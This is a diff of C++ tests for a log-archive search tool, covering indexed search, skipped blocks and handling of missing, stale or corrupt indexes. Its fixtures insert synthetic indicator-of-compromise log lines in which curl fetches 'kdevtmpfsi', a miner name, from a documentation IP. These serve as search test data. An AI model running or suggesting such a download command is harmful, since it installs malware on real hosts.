@@ -10,6 +10,7 @@
 #include <fstream>
 #include <random>
 
+#include "outputs/archive_index.h"
 #include "outputs/retention.h"
 #include "tests/outputs/seal_test_util.h"
 
@@ -20,7 +21,8 @@ namespace fs = std::filesystem;
 
 class ArchiveSearchTest : public SealFixture {
  protected:
-  std::vector<std::string> Search(SearchOptions o, Status* st = nullptr) {
+  std::vector<std::string> Search(SearchOptions o, Status* st = nullptr,
+                                  SearchStats* stats_out = nullptr) {
     o.root = dir_;
     auto s = ArchiveSearch::Create(std::move(o));
     EXPECT_TRUE(s.ok()) << s.status().ToString();
@@ -29,6 +31,7 @@ class ArchiveSearchTest : public SealFixture {
     Status r = (*s)->Run([&](std::string_view l) { lines.emplace_back(l); }, &stats);
     if (st) *st = r;
     EXPECT_EQ(stats.matches, lines.size());
+    if (stats_out) *stats_out = stats;
     return lines;
   }
   // "...<13>TEXT" -> TEXT
@@ -136,6 +139,11 @@ class SearchReferenceTest : public ArchiveSearchTest {
           }
           body += line + "\n";
           if (d == 0 && i == 700 && std::string(h) == "alpha") body += "password fragment root\n";
+          // Rare IOC lines, for the index: one in a small frame, one in a plain file.
+          if ((d == 0 && i == 300 && std::string(h) == "beta") ||
+              (d == 1 && i == 1500 && std::string(h) == "gamma")) {
+            body += std::string(ts) + " 192.0.2.1 <13>curl http://203.0.113.77/kdevtmpfsi\n";
+          }
         }
         const std::string rel = std::string(h) + "/2025-12-0" + std::to_string(d + 1) + ".log";
         files_.push_back({rel, body});
@@ -224,6 +232,100 @@ TEST_F(SearchReferenceTest, SameLinesInTheSameOrderAsAPerLineScan) {
     ASSERT_TRUE(NormalizeSearchTime("2025-12-02T00:05", &o.until));
     EXPECT_EQ(Search(o), Reference(o)) << patterns[0] << " in a window";
   }
+}
+
+// The data files as they are on disk (plain or .zst), their indexes built
+// with small blocks for plain files so that blocks, not only files, are skipped.
+class IndexedSearchTest : public SearchReferenceTest {
+ protected:
+  void BuildIndexes() {
+    for (const auto& [rel, body] : files_) {
+      ASSERT_TRUE(ArchiveIndex::Build(DataPath(rel), 4096).ok()) << rel;
+    }
+  }
+  std::string DataPath(const std::string& rel) {
+    return fs::exists(Path(rel)) ? Path(rel) : Path(rel) + ".zst";
+  }
+  static SearchOptions Rare() {
+    SearchOptions o;
+    o.patterns = {"203\\.0\\.113\\.77", "kdevtmpfsi"};
+    o.expect_index_before_day = INT64_MAX;
+    return o;
+  }
+  static bool Noted(const SearchStats& s, const std::string& what) {
+    return std::any_of(s.notes.begin(), s.notes.end(),
+                       [&](const std::string& n) { return n.find(what) != std::string::npos; });
+  }
+};
+
+TEST_F(IndexedSearchTest, SameLinesAsAPerLineScanWhileSkippingBlocks) {
+  BuildIndexes();
+  const std::vector<std::pair<std::vector<std::string>, bool>> cases = {
+      {{"Failed password"}, false},
+      {{"Invalid user [a-z]+", "^2025-12-01T00:0", "root$"}, false},
+      {{"failed"}, true},
+      {{"kernel: .*IN=[a-z0-9]* OUT="}, false},
+      {{"203\\.0\\.113\\.77", "kdevtmpfsi"}, false},
+      {{"KDEVTMPFSI"}, true},
+      {{"x"}, false},
+  };
+  for (const auto& [patterns, caseless] : cases) {
+    SearchOptions o;
+    o.patterns = patterns;
+    o.caseless = caseless;
+    SearchStats stats;
+    EXPECT_EQ(Search(o, nullptr, &stats), Reference(o)) << patterns[0];
+    // "x" has no text of 3 bytes the index could look for: noted, scanned.
+    const bool narrows = patterns[0] != "x";
+    EXPECT_EQ(stats.indexed_files, narrows ? 6u : 0u) << patterns[0];
+    EXPECT_EQ(stats.notes.empty(), narrows) << patterns[0];
+    o.host_glob = "[ag]*";
+    ASSERT_TRUE(NormalizeSearchTime("2025-12-01T00:10", &o.since));
+    ASSERT_TRUE(NormalizeSearchTime("2025-12-02T00:05", &o.until));
+    EXPECT_EQ(Search(o, nullptr, &stats), Reference(o)) << patterns[0] << " in a window";
+    EXPECT_GT(stats.skipped_bytes, 0u) << patterns[0] << " in a window";
+  }
+  SearchOptions o = Rare();
+  SearchStats stats;
+  EXPECT_EQ(Search(o, nullptr, &stats).size(), 2u);
+  EXPECT_GT(stats.skipped_bytes, stats.bytes * 5);  // most of the archive left unread
+  o.use_index = false;
+  EXPECT_EQ(Search(o, nullptr, &stats), Reference(o));
+  EXPECT_EQ(stats.skipped_bytes, 0u);
+  EXPECT_EQ(stats.indexed_files, 0u);
+}
+
+TEST_F(IndexedSearchTest, MissingStaleOrCorruptIndexIsIgnoredWithANote) {
+  BuildIndexes();
+  // Missing.
+  fs::remove(DataPath("alpha/2025-12-01.log") + std::string(kIndexSuffix));
+  SearchStats stats;
+  EXPECT_EQ(Search(Rare(), nullptr, &stats), Reference(Rare()));
+  EXPECT_TRUE(Noted(stats, "1 day file(s) without an index (alpha/2025-12-01.log)"));
+  EXPECT_EQ(stats.indexed_files, 5u);
+  // Stale: a line appended after indexing holds a match the index knows nothing of.
+  const std::string line = "2025-12-02T23:59:59.000000Z 192.0.2.1 <13>late kdevtmpfsi\n";
+  std::ofstream(Path("gamma/2025-12-02.log"), std::ios::app) << line;
+  files_[5].second += line;
+  const auto want = Reference(Rare());
+  EXPECT_EQ(want.back(), line.substr(0, line.size() - 1));
+  EXPECT_EQ(Search(Rare(), nullptr, &stats), want);
+  EXPECT_TRUE(Noted(stats, "stale index")) << stats.notes.size();
+  // Corrupt.
+  {
+    std::fstream f(DataPath("beta/2025-12-01.log") + std::string(kIndexSuffix),
+                   std::ios::in | std::ios::out | std::ios::binary);
+    f.seekp(300);
+    f.put('\x7f');
+  }
+  EXPECT_EQ(Search(Rare(), nullptr, &stats), want);
+  EXPECT_TRUE(Noted(stats, "corrupt index"));
+  EXPECT_EQ(stats.indexed_files, 3u);
+  // Files of days not expected to have an index yet get no note.
+  SearchOptions o = Rare();
+  o.expect_index_before_day = INT64_MIN;
+  EXPECT_EQ(Search(o, nullptr, &stats), want);
+  EXPECT_FALSE(Noted(stats, "without an index"));
 }
 
 TEST(SearchTimeTest, Normalizes) {
